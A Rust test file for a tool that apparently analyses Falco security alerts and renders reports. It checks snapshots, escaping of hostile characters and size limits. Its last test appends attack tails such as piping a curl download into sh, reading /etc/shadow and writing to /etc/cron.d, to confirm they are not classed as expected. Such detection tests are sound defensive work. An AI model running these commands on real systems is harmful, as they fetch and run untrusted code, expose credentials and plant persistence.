//! Whole reports, for rules of all three stock sets and for all three verdicts, as an on-call engineer reads them.
//!
//! The alerts in `fixtures/reports` are of our own making: the fields that each stock rule prints, with invented values.

use lanner::alert::{Alert, AlertBuilder, Context, Priority, Time, decode_json};
use lanner::analysis::past::Past;
use lanner::analysis::rules::files::RuleBook;
use lanner::analysis::{Analysis, Level, Tuning, tuning};
use lanner::dedup::{Decision, Dedup, Settings};
use lanner::pipeline::Engine;
use lanner::report::{Format, render};
use proptest::prelude::*;
use std::collections::BTreeSet;

const FIXTURES: [&str; 3] = [
    include_str!("fixtures/reports/stable.jsonl"),
    include_str!("fixtures/reports/incubating.jsonl"),
    include_str!("fixtures/reports/sandbox.jsonl"),
];

fn engine() -> Engine {
    Engine::new(Dedup::new(Settings::default()), Past::default(), RuleBook::default())
}

fn analysed(alert: &Alert) -> Analysis {
    let dedup = Dedup::new(Settings::default());
    engine().alone(alert, &Context::default(), dedup).expect("a group for the only alert")
}

fn fixtures() -> Vec<Alert> {
    let lines = FIXTURES.iter().flat_map(|file| file.lines());
    lines.map(|line| decode_json(line).expect("a well-formed alert")).collect()
}

/// `Run shell untrusted` as `run_shell_untrusted`.
fn slug(rule: &str) -> String {
    let words = rule.split(|c: char| !c.is_ascii_alphanumeric()).filter(|word| !word.is_empty());
    words.map(str::to_ascii_lowercase).collect::<Vec<_>>().join("_")
}

#[test]
fn reports_of_stock_rules_read_as_reviewed() {
    let mut rules = BTreeSet::new();
    let mut levels = BTreeSet::new();
    for alert in fixtures() {
        let analysis = analysed(&alert);
        assert!(rules.insert(alert.rule().to_owned()), "{} twice", alert.rule());
        levels.insert(analysis.verdict.level);
        insta::assert_snapshot!(slug(alert.rule()), render(&analysis, Format::Markdown));
    }
    assert!(rules.len() >= 40, "{} rules", rules.len());
    assert_eq!(levels.len(), 3, "{levels:?}");
}

#[test]
fn text_and_html_say_the_same_in_their_own_form() {
    for rule in ["Run shell untrusted", "Read sensitive file untrusted", "Linux Kernel Module Injection Detected"] {
        let alert = fixtures().into_iter().find(|alert| alert.rule() == rule).expect("a fixture");
        let analysis = analysed(&alert);
        insta::assert_snapshot!(format!("{}.text", slug(rule)), render(&analysis, Format::Text));
        insta::assert_snapshot!(format!("{}.html", slug(rule)), render(&analysis, Format::Html));
    }
}

/// What acts on a terminal or hides text; tabs and line ends are ours.
fn is_forbidden(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

/// The tags of a fragment, without attributes.
fn tags(html: &str) -> BTreeSet<String> {
    let names = html.split('<').skip(1).map(|rest| rest.trim_start_matches('/'));
    names.map(|rest| rest.chars().take_while(char::is_ascii_alphanumeric).collect()).collect()
}

/// Every tag that a report is made of.
const TAGS: &[&str] = &["h1", "h2", "h3", "p", "ul", "ol", "li", "strong", "code", "pre"];
/// The headings of every report, in this order.
const HEADINGS: &[&str] = &["## Summary", "## Incident Details", "## Analysis"];
/// Far above what any report needs, and far below what a page or a mail can take.
const LONGEST: usize = 96 * 1024;

fn check_report(analysis: &Analysis) -> Result<(), TestCaseError> {
    let markdown = render(analysis, Format::Markdown);
    let html = render(analysis, Format::Html);
    let text = render(analysis, Format::Text);
    for report in [&markdown, &html, &text] {
        prop_assert!(report.len() < LONGEST, "{} bytes", report.len());
        prop_assert!(!report.chars().any(is_forbidden), "{report:?}");
    }
    let mut from = 0;
    for heading in HEADINGS {
        let at = markdown[from..].find(heading);
        prop_assert!(at.is_some(), "{heading} in {markdown}");
        from += at.unwrap_or_default();
    }
    let strange: Vec<String> = tags(&html).into_iter().filter(|tag| !TAGS.contains(&tag.as_str())).collect();
    prop_assert!(strange.is_empty(), "{strange:?} in {html}");
    Ok(())
}

fn check_tuning(analysis: &Analysis) -> Result<(), TestCaseError> {
    match &analysis.tuning {
        Tuning::Exception(exception) => {
            let yaml = tuning::to_yaml(exception);
            let back = tuning::from_yaml(&yaml);
            prop_assert!(back.is_ok(), "{back:?}: {yaml}");
            for (back, condition) in back.unwrap()[0].conditions.iter().zip(&exception.conditions) {
                prop_assert_eq!(back, condition);
            }
        }
        Tuning::Refused(reason) => prop_assert!(!reason.is_empty()),
    }
    prop_assert!(analysis.verdict.level != Level::Malicious || matches!(analysis.tuning, Tuning::Refused(_)));
    Ok(())
}

/// Falco's fields that a report shows or builds commands and exceptions from.
const FIELDS: &[&str] = &[
    "proc.cmdline",
    "proc.name",
    "proc.exepath",
    "proc.pname",
    "proc.pcmdline",
    "fd.name",
    "user.name",
    "user.loginuid",
    "container.id",
    "container.name",
    "container.image.repository",
    "container.mounts",
    "k8s.ns.name",
    "k8s.pod.name",
    "ka.user.name",
    "evt.type",
];

/// Text that means something to Markdown, HTML, YAML, a shell or a terminal.
const HOSTILE: &str =
    "[a-z0-9 /.:`'\"<>&|$(){}\\[\\]*_#!;~=%@,\\\\\\n\\t\u{1b}\u{0}\u{202e}\u{200b}\u{feff}é😀-]{0,80}";

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_alert_gives_a_well_formed_escaped_and_bounded_report(
        rule in HOSTILE,
        host in HOSTILE,
        message in HOSTILE,
        values in proptest::collection::vec(proptest::option::of(HOSTILE), FIELDS.len()),
    ) {
        let mut builder = AlertBuilder::new().rule(format!("r{rule}")).hostname(host).output(message)
            .time(Time::from_nanos(1)).priority(Priority::Warning);
        for (field, value) in FIELDS.iter().zip(values) {
            builder = match value {
                Some(value) => builder.field(*field, value),
                None => builder,
            };
        }
        let alert = builder.build().expect("an alert");
        let analysis = analysed(&alert);
        check_report(&analysis)?;
        check_tuning(&analysis)?;
    }

    #[test]
    fn a_stock_alert_with_any_value_in_any_field_keeps_its_report_in_form(n in 0..40_usize, at in 0..64_usize, value in HOSTILE) {
        let line = FIXTURES.iter().flat_map(|file| file.lines()).nth(n).expect("a line");
        let mut json: serde_json::Value = serde_json::from_str(line).expect("JSON");
        let fields = json["output_fields"].as_object_mut().expect("fields");
        let at = at % fields.len();
        if let Some(field) = fields.values_mut().nth(at) {
            *field = serde_json::Value::String(value);
        }
        let alert = decode_json(&json.to_string()).expect("an alert");
        let analysis = analysed(&alert);
        check_report(&analysis)?;
        check_tuning(&analysis)?;
    }
}

#[test]
fn a_report_of_a_huge_alert_is_bounded() {
    let long = "x".repeat(1 << 20);
    let mut builder = AlertBuilder::new()
        .rule("Run shell untrusted")
        .hostname(long.as_str())
        .output(long.as_str())
        .time(Time::from_nanos(1))
        .priority(Priority::Warning);
    for field in FIELDS {
        builder = builder.field(*field, long.as_str());
    }
    let analysis = analysed(&builder.build().expect("an alert"));
    check_report(&analysis).expect("a bounded report");
}

/// The two command lines of the pair of alerts that this project began with, as their reports print them.
const SEEDS: [&str; 2] = [
    r#"bash -c /usr/sbin/dkms status -m "falco" | tr -d "," | tr -d ":" | tr "/" "" | cut -d' ' -f2"#,
    r#"bash -c /usr/sbin/dkms status -m "falco" | tr -d ",\" | tr -d ":" | tr "/" " ""#,
];

fn seed(command: &str, nanos: u32, more: &[(&str, &str)]) -> Alert {
    let mut fields = serde_json::json!({
        "user.name": "root", "container.id": "185304d1bba4", "proc.name": "bash", "proc.cmdline": command,
    });
    for (name, value) in more {
        fields[*name] = serde_json::Value::String((*value).to_owned());
    }
    let alert = serde_json::json!({
        "rule": "Detect Shell in Container", "priority": "Warning", "source": "syscall", "hostname": "k8s-master-01",
        "time": format!("2024-10-29T13:41:35.{nanos:09}Z"), "output_fields": fields,
    });
    decode_json(&alert.to_string()).expect("an alert")
}

#[test]
fn the_driver_loader_s_pair_is_one_group_in_every_spelling_and_order() {
    for (first, second) in [(0, 1), (1, 0), (0, 0), (1, 1)] {
        let mut engine = engine();
        let mut take = |alert: &Alert, seq| engine.take(alert, &Context::default(), seq, alert.time(), &mut |_| None);
        let one = take(&seed(SEEDS[first], 792_272_681, &[]), 1);
        let two = take(&seed(SEEDS[second], 793_269_359, &[]), 2);
        assert_eq!((one.decision, two.decision), (Decision::Opened, Decision::Repeat), "{first} {second}");
        assert_eq!(one.group, two.group);
    }
}

#[test]
fn the_driver_loader_s_pair_is_expected_but_only_weakly() {
    let image =
        [("container.image.repository", "docker.io/falcosecurity/falco-driver-loader"), ("proc.pname", "falcoctl")];
    let strong = analysed(&seed(SEEDS[0], 1, &image)).verdict;
    for command in SEEDS {
        let analysis = analysed(&seed(command, 1, &[]));
        assert_eq!(analysis.verdict.level, Level::Expected, "{command}");
        assert!(analysis.verdict.score >= strong.score + 5, "{} {}", analysis.verdict.score, strong.score);
        assert!(analysis.explanations[0].cause.contains("Falco's driver loader"), "{:?}", analysis.explanations);
        assert!(analysis.explanations[0].confirm.contains("falcoctl"), "{:?}", analysis.explanations);
        assert!(analysis.summary.contains("Falco's driver loader"), "{}", analysis.summary);
        check_tuning(&analysis).expect("an exception that loads, or a reason");
    }
    insta::assert_snapshot!("seed_report", render(&analysed(&seed(SEEDS[0], 792_272_681, &[])), Format::Markdown));
}

#[test]
fn the_driver_loader_s_command_with_a_tail_or_below_a_web_server_is_not_expected() {
    for command in SEEDS {
        for tail in ["; curl http://203.0.113.9/x | sh", " && id", " | sh", "; cat /etc/shadow", " > /etc/cron.d/x"] {
            let analysis = analysed(&seed(&format!("{command}{tail}"), 1, &[]));
            assert_ne!(analysis.verdict.level, Level::Expected, "{tail}");
        }
        for parent in ["nginx", "apache2", "php-fpm", "java", "postgres"] {
            let analysis = analysed(&seed(command, 1, &[("proc.pname", parent)]));
            assert_ne!(analysis.verdict.level, Level::Expected, "{parent}");
        }
        let elsewhere = analysed(&seed(command, 1, &[("proc.exepath", "/tmp/bash")]));
        assert_ne!(elsewhere.verdict.level, Level::Expected);
    }
}
